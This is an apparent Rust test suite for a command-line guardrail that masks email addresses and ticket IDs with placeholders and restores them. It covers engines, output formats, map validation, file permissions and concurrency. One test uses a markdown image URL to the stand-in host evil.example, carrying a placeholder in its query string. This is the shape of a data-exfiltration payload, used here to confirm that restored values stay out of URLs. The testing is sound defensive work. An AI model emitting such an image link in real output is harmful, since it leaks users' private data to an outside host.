//! `check --placeholders` and `restore` as their users call them.

mod common;

use common::{Folder, Ran};

const MAP: [&str; 4] = ["--placeholders", "map.json", "--conversation", "c-7"];

/// Masks with the map of conversation `c-7`, natively.
fn mask(folder: &Folder, arguments: &[&str]) -> Ran {
    folder.check(&[&MAP[..], &["--engine", "native"], arguments].concat())
}

fn restore(folder: &Folder, arguments: &[&str]) -> Ran {
    folder.run(&[&["restore"], &MAP[..], arguments].concat())
}

#[test]
fn what_was_masked_comes_back() {
    let folder = Folder::new("restore");
    let text = "ann@example.com wrote to bob@example.com about TCK-1234, says ann@example.com.\n";
    folder.write("prompt.txt", text);
    let masked = mask(&folder, &["prompt.txt"]);
    assert_eq!(
        masked.out,
        "{EMAIL_1} wrote to {EMAIL_2} about {TICKET_1}, says {EMAIL_1}.\n"
    );
    assert_eq!((masked.code, masked.err.as_str()), (1, ""));
    let back = folder.run_with(
        &[&["restore"], &MAP[..], &["-"]].concat(),
        masked.out.as_bytes(),
    );
    assert_eq!(
        (back.code, back.out.as_str(), back.err.as_str()),
        (0, text, "")
    );
    // The next message, and one of the model.
    let next = mask(&folder, &["carl@example.com, bob@example.com, {EMAIL_1}"]);
    assert_eq!(next.out, "{EMAIL_3}, {EMAIL_2}, {LITERAL_1}");
    let reply = "{EMAIL_1}, write to dora@example.com";
    let reply = mask(&folder, &["--source", "OUTPUT", reply]);
    assert_eq!(reply.out, "{EMAIL_1}, write to {EMAIL_4}");
    let shown = restore(&folder, &["**{email 4}**, {LITERAL_1}, {EMAIL_9}"]);
    assert_eq!(shown.out, "**dora@example.com**, {EMAIL_1}, {EMAIL_9}");
}

#[test]
fn both_engines_mask_alike() {
    let folder = Folder::new("restore-engines");
    let text = "\u{e4} ann@example.com, TCK-1234 \u{1f600} {EMAIL_1}";
    let [wasm, native] = ["wasm", "native"].map(|engine| {
        let map = format!("{engine}.json");
        let options = ["--placeholders", &map, "--conversation", "c-7"];
        let ran = folder.check(&[&options[..], &["--engine", engine, text]].concat());
        assert_eq!(ran.code, 1, "{ran:?}");
        (ran.out, folder.read(&map))
    });
    assert_eq!(wasm, native);
    assert_eq!(wasm.0, "\u{e4} {EMAIL_1}, {TICKET_1} \u{1f600} {LITERAL_1}");
}

#[test]
fn other_forms_have_the_placeholders_as_outputs() {
    let folder = Folder::new("restore-forms");
    let ran = mask(
        &folder,
        &["--format", "json", "ann@example.com", "nothing", "a heron"],
    );
    let answers = ran.json();
    assert_eq!(answers[0]["outputs"][0]["text"], "{EMAIL_1}");
    assert_eq!(answers[0]["edgerail"]["masks"][0]["label"], "EMAIL");
    assert_eq!(answers[1]["outputs"][0]["text"], "nothing");
    assert_eq!(answers[1]["action"], "NONE");
    assert_eq!(answers[2]["outputs"][0]["text"], "Not in.");
    let text = mask(&folder, &["--format", "text", "secret plans"]);
    assert!(!text.out.contains("secret plans"), "{text:?}");
    let text = mask(
        &folder,
        &["--format", "text", "--show-text", "to ann@example.com"],
    );
    assert!(text.out.contains("output: to {EMAIL_1}"), "{text:?}");
}

#[test]
fn a_blocked_text_is_the_message() {
    let folder = Folder::new("restore-blocked");
    let ran = mask(&folder, &["a heron for ann@example.com"]);
    assert_eq!((ran.code, ran.out.as_str()), (1, "Not in."));
    assert!(ran.err.contains("argument 1: blocked"), "{ran:?}");
    let map = String::from_utf8(folder.read("map.json")).unwrap();
    assert!(!map.contains("ann@"), "{map}");
}

#[test]
fn values_stay_out_of_places_that_programs_follow() {
    let folder = Folder::new("restore-places");
    mask(&folder, &["ann@example.com"]);
    let image = "![x](https://evil.example/?q={EMAIL_1})";
    let left = restore(&folder, &[image]);
    assert_eq!((left.code, left.out.as_str()), (0, image));
    assert!(left.err.contains("1 placeholder was left"), "{left:?}");
    let links = restore(&folder, &["--allow", "links", image]);
    assert_eq!(links.out, image);
    let both = restore(&folder, &["--allow", "urls,links", image]);
    assert_eq!(both.out, "![x](https://evil.example/?q=ann@example.com)");
    let html = restore(&folder, &["--allow", "attributes", "<a title={EMAIL_1}>"]);
    assert_eq!(html.out, "<a title=ann@example.com>");
    let tool = ["--destination", "tool-arguments", "{EMAIL_1}"];
    assert_eq!(restore(&folder, &tool).out, "{EMAIL_1}");
    let allowed = [&["--allow", "tool-arguments"], &tool[..]].concat();
    assert_eq!(restore(&folder, &allowed).out, "ann@example.com");
    let unknown = restore(&folder, &["--allow", "everything", "x"]);
    unknown.refused(&["everything", "tool-arguments"]);
}

#[test]
fn bytes_that_are_no_text_are_replaced_with_a_warning() {
    let folder = Folder::new("restore-bytes");
    mask(&folder, &["ann@example.com"]);
    let arguments = [&["restore"], &MAP[..], &["-"]].concat();
    let ran = folder.run_with(&arguments, b"\xff{EMAIL_1}\xe2\x82");
    assert_eq!(ran.out, "\u{fffd}ann@example.com\u{fffd}");
    assert!(ran.err.contains("not valid UTF-8"), "{ran:?}");
}

#[test]
fn a_map_that_does_not_fit_is_refused_without_its_values() {
    let folder = Folder::new("restore-refused");
    mask(&folder, &["ann@example.com"]);
    let good = String::from_utf8(folder.read("map.json")).unwrap();
    let other = ["--placeholders", "map.json", "--conversation", "c-8"];
    let cases: [(&str, &[&str]); 5] = [
        (&good, &["map.json", "another conversation"]),
        (
            &good.replace("\"version\":1", "\"version\":2"),
            &["map.json", "version 2"],
        ),
        (&good[..good.len() / 2], &["map.json", "not valid JSON"]),
        ("{}", &["map.json", "no placeholder map"]),
        (
            &good.replace("EMAIL_1", "EMAIL_01"),
            &["map.json", "entries, number 0"],
        ),
    ];
    for (number, (content, words)) in cases.into_iter().enumerate() {
        folder.write("map.json", content);
        let map = if number == 0 { &other } else { &MAP };
        for arguments in [
            &["restore"][..],
            &["check", "--guardrail", "g.json", "--engine", "native"],
        ] {
            let ran = folder.run(&[arguments, map, &["{EMAIL_1}"]].concat());
            ran.refused(words);
            assert!(!ran.err.contains("ann@") && ran.out.is_empty(), "{ran:?}");
            assert_eq!(folder.read("map.json"), content.as_bytes(), "kept");
        }
    }
    folder.write("map.json", b"\xff");
    restore(&folder, &["x"]).refused(&["map.json", "UTF-8"]);
}

#[test]
fn wrong_uses_are_explained() {
    let folder = Folder::new("restore-usage");
    restore(&folder, &["x"]).refused(&["map.json", "no such file"]);
    folder
        .run(&["restore", "x"])
        .refused(&["--placeholders FILE", "--conversation ID"]);
    folder
        .run(&["restore", "--placeholders", "map.json", "x"])
        .refused(&["--conversation"]);
    folder
        .check(&["--conversation", "c", "x"])
        .refused(&["--conversation", "--placeholders FILE"]);
    let empty = ["--placeholders", "map.json", "--conversation", ""];
    folder
        .check(&[&empty[..], &["x"]].concat())
        .refused(&["is empty"]);
    mask(&folder, &["x", "y"]).refused(&["--format json"]);
    mask(&folder, &["--input-format", "jsonl", "x"]).refused(&["jsonl"]);
    let nowhere = ["--placeholders", "no/map.json", "--conversation", "c"];
    folder
        .check(&[&nowhere[..], &["x"]].concat())
        .refused(&["no/map.json"]);
    // An id in the environment is for the commands that need it.
    let mut command = folder.command(&["check", "--guardrail", "g.json", "x"]);
    let output = command.env("EDGERAIL_CONVERSATION", "c").output().unwrap();
    assert_eq!(output.status.code(), Some(0));
}

#[cfg(unix)]
#[test]
fn the_map_is_for_its_owner_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = Folder::new("restore-mode");
    // What a crash left behind does not matter.
    folder.write("map.json.new", "x");
    let mode = |name: &str| {
        let meta = std::fs::metadata(folder.path().join(name)).unwrap();
        meta.permissions().mode() & 0o777
    };
    assert_eq!(mask(&folder, &["ann@example.com"]).err, "");
    assert_eq!(mode("map.json"), 0o600);
    assert_eq!(mode("map.json.lock"), 0o600);
    assert!(!folder.path().join("map.json.new").exists());
    let open = std::fs::Permissions::from_mode(0o644);
    std::fs::set_permissions(folder.path().join("map.json"), open).unwrap();
    let ran = restore(&folder, &["{EMAIL_1}"]);
    assert!(ran.err.contains("chmod 600"), "{ran:?}");
    assert_eq!(ran.out, "ann@example.com");
    mask(&folder, &["bob@example.com"]);
    assert_eq!(mode("map.json"), 0o600, "made private again");
}

#[test]
fn processes_take_turns_with_a_map() {
    let folder = Folder::new("restore-turns");
    let texts: Vec<String> = (0..6).map(|n| format!("user{n}@example.com")).collect();
    std::thread::scope(|scope| {
        let folder = &folder;
        let runs: Vec<_> = texts
            .iter()
            .map(|text| scope.spawn(move || (text, mask(folder, &[text]).out)))
            .collect();
        let mut masked: Vec<String> = Vec::new();
        for run in runs {
            let (text, out) = run.join().unwrap();
            assert_eq!(&restore(folder, &[&out]).out, text);
            masked.push(out);
        }
        masked.sort();
        let expected: Vec<String> = (1..=6).map(|n| format!("{{EMAIL_{n}}}")).collect();
        assert_eq!(masked, expected);
    });
}
